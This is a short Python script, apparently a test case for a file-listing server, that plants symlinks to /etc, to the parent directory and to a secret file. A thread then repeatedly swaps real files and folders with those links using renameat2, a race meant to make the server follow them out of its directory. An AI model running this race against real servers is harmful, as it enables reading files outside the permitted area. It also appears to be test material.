# attack: swap files and folders that the server lists for links to the host, while it looks
# must end: completed
# with: planted folder
import ctypes, os, threading
libc = ctypes.CDLL(None)
os.mkdir("sub")
open("sub/x.csv", "w").write("own")
open("x.csv", "w").write("own")
os.symlink("/var/tmp/woma-attack-secret.txt", "link.csv")
os.symlink("../beside.txt", "beside.csv")
os.symlink("/etc", "etc")
os.symlink("..", "up")
def swap():
    while True:
        for a, b in ((b"x.csv", b"link.csv"), (b"x.csv", b"beside.csv"), (b"sub", b"etc"), (b"sub", b"up")):
            libc.renameat2(-100, a, -100, b, 2)
threading.Thread(target=swap, daemon=True).start()
print("held")
